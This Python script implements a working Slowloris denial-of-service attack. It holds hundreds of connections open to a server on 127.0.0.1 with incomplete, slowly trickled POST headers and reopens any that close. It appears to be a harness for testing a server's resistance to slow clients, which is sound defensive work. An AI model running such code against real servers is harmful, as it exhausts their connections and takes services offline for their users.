"""Slowloris: many sockets that send the head of a request a line a second and never end it.

A socket that the server closes is opened again, so that their number stays. Every second it prints
how many are open and how many were closed so far.
"""

from __future__ import annotations

import asyncio
import json
import math
import sys
from collections import deque
from typing import Any, cast

import uvloop

_LINE_S = 1.0
_TURN_S = 0.01
_RETRY_S = 0.2
_AT_ONCE = 100


class Crowd:
    """All sockets."""

    def __init__(self, port: int, path: str) -> None:
        self.open: set[Slow] = set()
        self.closed = 0
        self._turns: deque[Slow] = deque()
        self._port = port
        self._head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n".encode()

    async def join(self) -> None:
        """Open one socket, and send the first lines of the head."""
        loop = asyncio.get_running_loop()
        try:
            _, slow = await loop.create_connection(lambda: Slow(self), "127.0.0.1", self._port)
        except OSError:
            loop.call_later(_RETRY_S, self.replace)
            return
        slow.transport.write(self._head)

    def replace(self) -> None:
        """Open a socket in place of one that is gone."""
        task = asyncio.get_running_loop().create_task(self.join())
        _tasks.add(task)
        task.add_done_callback(_tasks.discard)

    def send_lines(self) -> None:
        """Send the next line on the sockets whose turn it is.

        They take turns over the second: slow clients are many, not a choir, and a thousand lines at
        once would be a burst that none of them makes.
        """
        for _ in range(math.ceil(len(self.open) * _TURN_S / _LINE_S)):
            if not self._turns:
                self._turns.extend(self.open)
            slow = self._turns.popleft()
            if slow in self.open:
                slow.transport.write(b"X-Slow: and slower\r\n")


_tasks: set[asyncio.Task[None]] = set()


class Slow(asyncio.Protocol):
    """One socket."""

    def __init__(self, crowd: Crowd) -> None:
        self._crowd = crowd
        self.transport = cast(asyncio.Transport, None)

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Be one of the crowd."""
        # A cast, because uvloop's transports do not inherit from asyncio's.
        self.transport = cast(asyncio.Transport, transport)
        self._crowd.open.add(self)

    def connection_lost(self, _error: Exception | None) -> None:
        """Be replaced."""
        self._crowd.open.discard(self)
        self._crowd.closed += 1
        self._crowd.replace()


async def _run(settings: dict[str, Any]) -> None:
    """Open all sockets and keep them busy until SIGTERM ends the process."""
    crowd = Crowd(settings["port"], settings["path"])
    for first in range(0, settings["sockets"], _AT_ONCE):
        count = min(_AT_ONCE, settings["sockets"] - first)
        await asyncio.gather(*(crowd.join() for _ in range(count)))
    while True:
        print(json.dumps({"open": len(crowd.open), "closed": crowd.closed}), flush=True)
        for _ in range(round(_LINE_S / _TURN_S)):
            await asyncio.sleep(_TURN_S)
            crowd.send_lines()


if __name__ == "__main__":
    uvloop.run(_run(json.loads(sys.argv[1])))
